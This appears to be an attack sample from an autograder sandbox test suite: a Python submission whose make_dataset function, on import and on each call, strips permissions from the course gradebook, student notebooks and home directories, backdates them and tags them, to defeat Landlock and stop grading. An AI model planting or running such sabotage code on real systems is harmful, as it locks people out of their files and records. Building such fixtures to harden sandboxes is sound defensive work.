"""Attack: change what the code may own outside its walls (Landlock does not mediate a file's
metadata): close the course's gradebook, notebooks and folders, the zygote's sessions folder
and the grader's home to everyone, and age them, so that the grader cannot record and every
session after this one fails to start."""

import glob
import os

import numpy as np

EXERCISE = "make_dataset"
HONEST = "make_dataset_labels_01"
COURSE_ROOT = "@COURSE_ROOT@"


def _targets():
    yield from ("..", "../..", os.path.expanduser("~"), COURSE_ROOT)
    yield from glob.glob(os.path.join(COURSE_ROOT, "*"))
    yield os.path.join(COURSE_ROOT, "gradebook.db")
    yield from glob.glob(os.path.join(COURSE_ROOT, "submitted", "*", "*", "*.ipynb"))


def _attack():
    for path in list(_targets()):
        for change in (
            lambda p: os.chmod(p, 0),
            lambda p: os.utime(p, (1, 1)),
            lambda p: os.setxattr(p, "user.pwned", b"1"),
        ):
            try:
                change(path)
            except (OSError, AttributeError):
                pass


_attack()


def make_dataset(n_samples, n_features=2, threshold=0.5, seed=None):
    _attack()
    rng = np.random.default_rng(seed)
    X = rng.random((n_samples, n_features))
    return X, (X.sum(axis=1) > threshold).astype(int)
